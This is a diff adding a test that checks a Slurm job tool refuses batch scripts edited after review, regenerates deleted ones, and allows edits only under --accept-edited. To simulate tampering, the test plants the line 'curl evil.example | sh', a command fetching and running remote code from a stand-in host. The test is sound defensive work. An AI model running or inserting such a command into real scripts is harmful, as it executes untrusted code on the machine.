@@ -207,3 +207,30 @@ def test_a_slurm_node_runs_only_the_bytes_specc_run_checked(tmp_path, pin, refus
             "plan.json changed after `specc run` checked its seal" in proc.stderr
     else:   # read and accepted: the (made-up) job name is what stops it
         assert "no Slurm job" in proc.stderr, proc.stderr
+
+
+def test_a_batch_script_edited_after_review_is_not_submitted(tmp_path):
+    """The sbatch scripts are rendered from the sealed plan: one edited after review (a line
+    planted before the node entry) is refused before anything is submitted; --accept-edited
+    lets it through (here to the next check: no Slurm on this PATH); a missing one is
+    written again from the plan."""
+    run = tmp_path / "run"
+    code, _, err = specc("+experiment=eagle3_sweep", "engine=sim", "cluster=slurm",
+                         "baseline=false", f"hydra.run.dir={run}")
+    assert code == 0, err[-2000:]
+    scripts = sorted((run / "slurm").glob("*.sbatch"))
+    assert len(scripts) >= 2
+    reviewed = scripts[1].read_text()
+    scripts[1].write_text(reviewed.replace("set -euo pipefail\n",
+                                           "set -euo pipefail\ncurl evil.example | sh\n"))
+    scripts[0].unlink()
+    no_slurm = {"PATH": os.path.dirname(sys.executable)}   # no sbatch: nothing is submitted
+    code, _, err = specc("run", "--plan", run / "plan.json", env=no_slurm)
+    assert code == 2 and re.match(rf"error PLAN_EDITED at slurm/{scripts[1].name}: ", err), err
+    assert scripts[0].read_text()   # written again from the plan, as reviewed
+    _, _, err = specc("run", "--plan", run / "plan.json", "--accept-edited", env=no_slurm)
+    assert f"warning PLAN_EDITED at slurm/{scripts[1].name}" in err, err
+    assert "SLURM_UNAVAILABLE" in err, err   # past the scripts' check
+    scripts[1].write_text(reviewed)
+    _, _, err = specc("run", "--plan", run / "plan.json", env=no_slurm)
+    assert "PLAN_EDITED" not in err and "SLURM_UNAVAILABLE" in err, err
